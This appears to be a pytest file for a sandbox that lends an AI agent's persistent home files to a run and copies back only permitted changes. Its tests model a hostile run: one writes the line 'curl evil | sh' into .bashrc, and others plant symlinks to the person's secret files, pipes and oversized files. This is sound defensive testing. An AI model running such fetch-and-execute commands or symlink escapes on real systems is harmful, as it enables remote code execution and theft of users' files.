"""What of an agent's home lives on, and what a hostile one may do to the kept one."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from ags import homes
from ags.errors import AgsError
from ags.homes import Home
from ags.workspace.tree import Owner

PATHS = ("history.jsonl", ".agent/sessions")


@pytest.fixture
def kept(tmp_path: Path) -> Path:
    made = tmp_path / "kept"
    (made / ".agent/sessions/a").mkdir(parents=True)
    (made / ".agent/sessions/a/1.jsonl").write_text("one\n")
    (made / ".agent/settings.json").write_text("not lent")
    (made / "history.jsonl").write_text("first\n")
    return made


def home(kept: Path, name: str = "run") -> Home:
    paths = dict.fromkeys(PATHS, kept)
    made = Home(paths, kept.parent / name, Owner(os.getuid(), os.getgid()))
    made.lend()
    return made


def test_a_run_gets_a_copy_of_what_lives_on_and_nothing_else(kept: Path) -> None:
    lent = home(kept).files
    assert (lent / ".agent/sessions/a/1.jsonl").read_text() == "one\n"
    assert not (lent / ".agent/settings.json").exists()
    assert not os.path.samefile(lent / "history.jsonl", kept / "history.jsonl")


def test_what_the_run_wrote_there_is_kept_for_the_next_and_the_rest_is_not(kept: Path) -> None:
    run = home(kept)
    (run.files / ".agent/sessions/a/2.jsonl").write_text("two\n")
    (run.files / ".agent/sessions/a/1.jsonl").write_text("one, changed\n")
    (run.files / ".bashrc").write_text("curl evil | sh")
    (run.files / ".agent/settings.json").write_text("evil")
    assert run.give_back() == ()
    assert (kept / ".agent/sessions/a/2.jsonl").read_text() == "two\n"
    assert (kept / ".agent/sessions/a/1.jsonl").read_text() == "one, changed\n"
    assert not (kept / ".bashrc").exists()
    assert (kept / ".agent/settings.json").read_text() == "not lent"
    assert (home(kept, "next").files / ".agent/sessions/a/2.jsonl").exists()


def test_two_runs_that_write_on_in_one_file_both_have_their_lines_kept(kept: Path) -> None:
    one, other = home(kept, "one"), home(kept, "other")
    for run, line in ((one, "mine\n"), (other, "yours\n")):
        with (run.files / "history.jsonl").open("a") as file:
            file.write(line)
    assert one.give_back() == other.give_back() == ()
    assert (kept / "history.jsonl").read_text() == "first\nmine\nyours\n"


def test_of_two_that_rewrite_one_file_the_second_keeps_its_own_and_it_is_told(kept: Path) -> None:
    one, other = home(kept, "one"), home(kept, "other")
    (one.files / "history.jsonl").write_text("rewritten\n")
    (other.files / "history.jsonl").write_text("otherwise\n")
    assert one.give_back() == ()
    assert other.give_back() == ("history.jsonl was changed by another run meanwhile",)
    assert (kept / "history.jsonl").read_text() == "rewritten\n"
    assert (other.files / "history.jsonl").read_text() == "otherwise\n"


def _age(file: Path, ns: int) -> None:
    os.utime(file, ns=(ns, ns))


YEAR_NS = 365 * 24 * 3600 * 10**9


def test_files_are_as_old_as_they_were_whatever_their_names(kept: Path) -> None:
    """Agents take the conversation that was changed last for the latest."""
    sessions, first_ns = ".agent/sessions/a", time.time_ns() - YEAR_NS
    ages = {"c.jsonl": first_ns, "a.jsonl": first_ns + 1, "b.jsonl": first_ns + 2_000_000_001}
    run = home(kept)
    for name, ns in ages.items():
        (run.files / sessions / name).write_text(name)
        _age(run.files / sessions / name, ns)
    assert run.give_back() == ()
    following = home(kept, "next")
    for place in (kept, following.files):
        got = {name: (place / sessions / name).stat().st_mtime_ns for name in ages}
        assert got == ages
    (following.files / sessions / "c.jsonl").write_text("went on")
    following.give_back()
    newest = max((kept / sessions).iterdir(), key=lambda file: file.stat().st_mtime_ns)
    assert newest.name == "c.jsonl"


def test_a_file_that_both_wrote_on_in_is_as_old_as_the_newer(kept: Path) -> None:
    one, other = home(kept, "one"), home(kept, "other")
    now_ns = time.time_ns()
    for run, line, ns in ((one, "1\n", now_ns - 1_000_000), (other, "2\n", now_ns - YEAR_NS)):
        with (run.files / "history.jsonl").open("a") as file:
            file.write(line)
        _age(run.files / "history.jsonl", ns)
    assert one.give_back() == other.give_back() == ()
    assert (kept / "history.jsonl").read_text() == "first\n1\n2\n"
    assert (kept / "history.jsonl").stat().st_mtime_ns == now_ns - 1_000_000


@pytest.mark.parametrize("years", [-100, 100])
def test_no_run_makes_a_file_that_stays_the_latest_for_ever(kept: Path, years: int) -> None:
    run, file = home(kept), ".agent/sessions/a/2.jsonl"
    (run.files / file).write_text("two\n")
    _age(run.files / file, time.time_ns() + years * YEAR_NS)
    assert run.give_back() == ()
    assert 0 <= (kept / file).stat().st_mtime_ns <= time.time_ns()
    assert (kept / file).read_text() == "two\n"


def test_giving_back_twice_changes_nothing_more(kept: Path) -> None:
    run = home(kept)
    with (run.files / "history.jsonl").open("a") as file:
        file.write("mine\n")
    assert run.give_back() == run.give_back() == ()
    assert (kept / "history.jsonl").read_text() == "first\nmine\n"


def test_a_file_that_the_run_removed_stays_kept(kept: Path) -> None:
    run = home(kept)
    (run.files / "history.jsonl").unlink()
    run.give_back()
    assert (kept / "history.jsonl").exists()


def test_the_next_turn_of_a_run_finds_its_home_as_it_left_it(kept: Path) -> None:
    run = home(kept)
    (run.files / "left").write_text("x")
    run.lend()
    assert (run.files / "left").read_text() == "x"


def test_what_is_no_plain_file_does_not_come_back(kept: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("the person's")
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder/key").write_text("the person's")
    run = home(kept)
    sessions = run.files / ".agent/sessions"
    (sessions / "link").symlink_to(secret)
    (sessions / "away").symlink_to(tmp_path / "folder")
    os.mkfifo(sessions / "pipe")
    (run.files / "history.jsonl").unlink()
    (run.files / "history.jsonl").symlink_to(secret)
    (sessions / "plain").write_text("control")
    run.give_back()
    assert sorted(path.name for path in (kept / ".agent/sessions").iterdir()) == ["a", "plain"]
    assert (kept / "history.jsonl").read_text() == "first\n"


def test_a_folder_that_became_a_link_is_not_followed(kept: Path, tmp_path: Path) -> None:
    (tmp_path / "theirs/sessions").mkdir(parents=True)
    (tmp_path / "theirs/sessions/key").write_text("the person's")
    run = home(kept)
    os.rename(run.files / ".agent", run.files / "moved")
    (run.files / ".agent").symlink_to(tmp_path / "theirs")
    run.give_back()
    assert not (kept / ".agent/sessions/key").exists()


def test_too_much_stays_with_the_run(kept: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(homes, "LARGEST", 100)
    monkeypatch.setattr(homes, "MOST_FILES", 4)
    run = home(kept)
    sessions = run.files / ".agent/sessions"
    with (sessions / "a0-giant").open("wb") as file:
        file.truncate(1 << 40)
    for number in range(5):
        (sessions / f"b{number}").write_text("x")
    told = run.give_back()
    assert told == (
        ".agent/sessions/a0-giant is too large",
        "there are more than 4 files, and not all are kept",
    )
    assert (kept / ".agent/sessions/b0").exists() and not (kept / ".agent/sessions/b4").exists()


def test_of_much_that_is_left_little_is_said(kept: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(homes, "LARGEST", 3)
    run = home(kept)
    for number in range(100):
        (run.files / f".agent/sessions/{number}").write_text("large")
    told = run.give_back()
    assert len(told) == homes.MOST_TOLD + 1 and told[-1] == "and 82 more"


def test_what_cannot_take_its_place_among_the_kept_is_told_and_the_rest_comes(kept: Path) -> None:
    run = home(kept)
    sessions = run.files / ".agent/sessions"
    (sessions / "a/1.jsonl").unlink()
    (sessions / "a/1.jsonl").mkdir()
    (sessions / "a/1.jsonl/below").write_text("x")
    (sessions / ("n" * 255)).write_text("x")
    (sessions / "plain").write_text("control")
    told = run.give_back()
    assert [each.partition(" ")[2] for each in told] == [
        "cannot be kept: File exists",
        "cannot be kept: File name too long",
    ]
    assert (kept / ".agent/sessions/a/1.jsonl").read_text() == "one\n"
    assert (kept / ".agent/sessions/plain").read_text() == "control"


def test_each_turn_gives_back_what_is_new_in_it(kept: Path) -> None:
    run = home(kept)
    for turn in ("first turn\n", "second turn\n"):
        with (run.files / "history.jsonl").open("a") as file:
            file.write(turn)
        (run.files / ".agent/sessions/new").write_text(turn)
        assert run.give_back() == ()
        run.lend()
    assert (kept / "history.jsonl").read_text() == "first\nfirst turn\nsecond turn\n"
    assert (kept / ".agent/sessions/new").read_text() == "second turn\n"


def test_a_tree_without_a_bottom_ends(kept: Path) -> None:
    run = home(kept)
    deep = run.files / ".agent/sessions"
    os.makedirs(f"{deep}/{'d/' * 500}")
    (deep / "e").write_text("x")
    run.give_back()
    assert (kept / ".agent/sessions/e").exists()


@pytest.mark.parametrize("noted", [b"", b"[]", b'{"a": 1}', b'{"a": ["x", "y"]}'])
def test_without_the_note_of_what_was_lent_nothing_is_taken(kept: Path, noted: bytes) -> None:
    run = home(kept)
    (run.files / "history.jsonl").write_text("evil")
    (kept.parent / "run" / homes.LENT).write_bytes(noted)
    with pytest.raises(AgsError, match="see what the run changed"):
        run.give_back()
    assert (kept / "history.jsonl").read_text() == "first\n"


def test_a_file_of_ours_takes_the_place_of_whatever_a_turn_left_there(
    kept: Path, tmp_path: Path
) -> None:
    victim = tmp_path / "victim"
    victim.write_text("the person's")
    run = home(kept)
    (run.files / "token.json").symlink_to(victim)
    run.put("token.json", b"ours")
    run.put("new/folder/token.json", b"ours")
    assert (run.files / "token.json").read_text() == "ours"
    assert (run.files / "new/folder/token.json").read_text() == "ours"
    assert victim.read_text() == "the person's"


def test_it_is_not_written_through_a_folder_that_became_a_link(kept: Path, tmp_path: Path) -> None:
    (tmp_path / "theirs").mkdir()
    run = home(kept)
    (run.files / ".login").symlink_to(tmp_path / "theirs")
    with pytest.raises(AgsError, match="fit the agent out"):
        run.put(".login/token.json", b"ours")
    assert list((tmp_path / "theirs").iterdir()) == []
